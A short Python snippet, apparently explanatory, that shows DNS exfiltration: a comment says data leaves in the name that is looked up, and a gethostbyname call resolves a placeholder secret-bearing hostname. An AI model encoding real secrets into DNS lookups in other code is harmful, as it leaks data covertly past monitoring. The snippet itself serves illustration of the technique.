# why: data leaves in the name that is looked up
import socket
socket.gethostbyname("secret.example.invalid")
